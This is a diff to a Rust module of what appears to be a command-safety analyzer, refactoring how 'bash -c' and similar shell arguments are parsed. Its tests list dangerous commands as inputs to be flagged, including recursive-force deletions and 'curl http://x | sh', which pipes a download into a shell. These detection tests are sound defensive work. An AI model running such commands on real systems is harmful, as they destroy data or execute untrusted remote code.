@@ -2,6 +2,7 @@
 //! `python -c` and kin (DESIGN.md §2a "Shells and interpreters").
 
 use super::*;
+use crate::programs::ShellArgs;
 
 impl Analyzer<'_> {
     /// Programs that execute what they read on a fed stdin: REPLs and command interpreters
@@ -63,106 +64,103 @@ impl Analyzer<'_> {
     pub(crate) fn shell(&mut self, st: &State, inv: &Invocation<'_>, depth: usize) {
         let p = inv.program.as_str();
         let args = inv.args;
-        let mut i = 0;
-        let mut has_c = false;
-        let mut reads_stdin = false;
-        while i < args.len() {
-            let Some(t) = args[i].known() else { break };
-            if t == "--" {
-                i += 1;
-                break;
+        // The argv is read by the shell's INVOCATION rules, the same reader the supervisor
+        // uses for an intercepted exec (`crate::programs::read_shell_args`).
+        let known: Vec<Option<String>> = args.iter().map(Field::known).collect();
+        let words: Vec<Option<&str>> = known.iter().map(Option::as_deref).collect();
+        let base = p.rsplit('/').next().unwrap_or(p);
+        // Startup files named on the line run before anything else.
+        for i in crate::programs::shell_startup(base, &words).sourced {
+            if let Some(f) = args.get(i) {
+                self.path_field(st, f, Access::Read);
+                self.add(
+                    Verdict::Yellow,
+                    "shell.script",
+                    format!("`{p}` runs the file `{}`", f.display()),
+                );
             }
-            if t == "-" {
-                reads_stdin = true;
-                i += 1;
-                break;
-            }
-            if (t.starts_with('-') || t.starts_with('+')) && t.len() > 1 {
-                if t.starts_with("--") {
-                    if matches!(t.as_str(), "--rcfile" | "--init-file") {
-                        if let Some(f) = args.get(i + 1) {
-                            self.path_field(st, f, Access::Read);
-                            self.add(
-                                Verdict::Yellow,
-                                "shell.script",
-                                format!("`{p}` runs the file `{}`", f.display()),
-                            );
-                        }
-                        i += 2;
-                        continue;
-                    }
-                    if t == "--command" {
-                        has_c = true;
-                    }
-                    i += 1;
-                    continue;
-                }
-                let letters = &t[1..];
-                if letters.contains('c') {
-                    has_c = true;
-                }
-                if letters.contains('s') {
-                    reads_stdin = true;
-                }
-                i += 1;
-                if letters.contains('o') || letters.contains('O') {
-                    i += 1;
-                }
-                continue;
-            }
-            break;
         }
         self.add(
             Verdict::Yellow,
             "shell.interpreter",
             format!("`{p}` runs shell code"),
         );
-        if has_c {
-            match args.get(i) {
-                Some(code) => match code.known() {
+        match crate::programs::read_shell_args(base, &words) {
+            ShellArgs::Command { string } => {
+                match &known[string] {
                     Some(code) => {
-                        self.line_with_stdin(&code, st.clone(), depth + 1, inv.stdin);
+                        self.line_with_stdin(code, st.clone(), depth + 1, inv.stdin);
                         // `sh -c 'cat "$1"' _ .env`: the positional parameters are words too.
-                        self.generic_paths(st, &args[(i + 2).min(args.len())..], Access::Any);
+                        self.generic_paths(st, &args[(string + 2).min(args.len())..], Access::Any);
                     }
                     None => {
                         self.opaque(&format!("{p} -c"), "a command string that cannot be known")
                     }
-                },
-                None => self.add(
-                    Verdict::Yellow,
-                    "shell.interpreter",
-                    format!("`{p} -c` without a command"),
-                ),
-            }
-            return;
-        }
-        if args
-            .get(i)
-            .and_then(Field::known)
-            .is_some_and(|t| is_stdin_path(&t))
-        {
-            reads_stdin = true;
-        }
-        if !reads_stdin {
-            if let Some(script) = args.get(i) {
-                match script.known() {
-                    Some(_) => {
-                        self.add(
-                            Verdict::Yellow,
-                            "shell.script",
-                            format!("`{p}` runs the script `{}`", script.display()),
-                        );
-                        self.path_field(st, script, Access::Read);
-                        self.generic_paths(st, &args[i + 1..], Access::Any);
-                    }
-                    None => self.opaque(
-                        p,
-                        "a script whose text cannot be known (a substitution or variable)",
-                    ),
                 }
                 return;
             }
+            ShellArgs::MissingCommand => {
+                self.add(
+                    Verdict::Yellow,
+                    "shell.interpreter",
+                    format!("`{p} -c` without a command"),
+                );
+                return;
+            }
+            ShellArgs::Uncertain => {
+                if let Some(first) = known.iter().position(Option::is_none) {
+                    // After a `-c`, the word not known is the command string or an option.
+                    let after_c = known[..first].iter().flatten().any(|w| {
+                        (w.starts_with('-') || w.starts_with('+'))
+                            && !w.starts_with("--")
+                            && w.contains('c')
+                    });
+                    if after_c {
+                        self.opaque(&format!("{p} -c"), "a command string that cannot be known");
+                    } else {
+                        self.opaque(
+                            p,
+                            "a script whose text cannot be known (a substitution or variable)",
+                        );
+                    }
+                    return;
+                }
+                // Which word is the code cannot be told for sure: every operand-like word is
+                // judged as a line, and every word as a path (the worst of the candidates).
+                self.add(
+                    Verdict::Yellow,
+                    "shell.script",
+                    format!("`{p}` has options tyba cannot read with certainty"),
+                );
+                for w in words.iter().flatten() {
+                    if !w.starts_with('-') && !w.starts_with('+') {
+                        self.line_with_stdin(w, st.clone(), depth + 1, inv.stdin);
+                    }
+                }
+                self.generic_paths(st, args, Access::Any);
+            }
+            ShellArgs::Script { file } => {
+                let script = &args[file];
+                if known[file].is_none() {
+                    self.opaque(
+                        p,
+                        "a script whose text cannot be known (a substitution or variable)",
+                    );
+                    return;
+                }
+                if !known[file].as_deref().is_some_and(is_stdin_path) {
+                    self.add(
+                        Verdict::Yellow,
+                        "shell.script",
+                        format!("`{p}` runs the script `{}`", script.display()),
+                    );
+                    self.path_field(st, script, Access::Read);
+                    self.generic_paths(st, &args[file + 1..], Access::Any);
+                    return;
+                }
+            }
+            // Commands on stdin: judged below when it is fed.
+            ShellArgs::Stdin { .. } => {}
         }
         if inv.stdin == Stdin::Fed {
             self.add(
@@ -406,6 +404,44 @@ mod tests {
             ("eval 'rm -rf build'", Red, "rm.recursive-force"),
             ("python3 -c 'print(1)'", Yellow, "interp.code"),
             ("curl http://x | sh", Red, ""),
+        ]);
+    }
+
+    /// Option values are never the command string; what cannot be read for sure is judged by
+    /// the worst of its words.
+    #[test]
+    fn shell_option_values_are_not_the_code() {
+        expect(&[
+            (
+                "bash -c -o history 'rm -rf build'",
+                Red,
+                "rm.recursive-force",
+            ),
+            (
+                "bash -eo pipefail -c 'rm -rf build'",
+                Red,
+                "rm.recursive-force",
+            ),
+            ("bash -co history 'rm -rf build'", Red, "rm.recursive-force"),
+            (
+                "bash -rcfile /dev/null -c 'rm -rf build'",
+                Red,
+                "rm.recursive-force",
+            ),
+            (
+                "bash --init-file x -c 'rm -rf build'",
+                Red,
+                "rm.recursive-force",
+            ),
+            (
+                "bash --frobnicate -c 'rm -rf build'",
+                Red,
+                "rm.recursive-force",
+            ),
+            ("sh -O extglob -c 'rm -rf build'", Red, "rm.recursive-force"),
+            ("bash -c -o", Yellow, "shell.script"),
+            ("bash -rcfile x.sh -c 'ls'", Yellow, "shell.script"),
+            ("bash -- script.sh", Yellow, "shell.script"),
         ]);
     }
 }
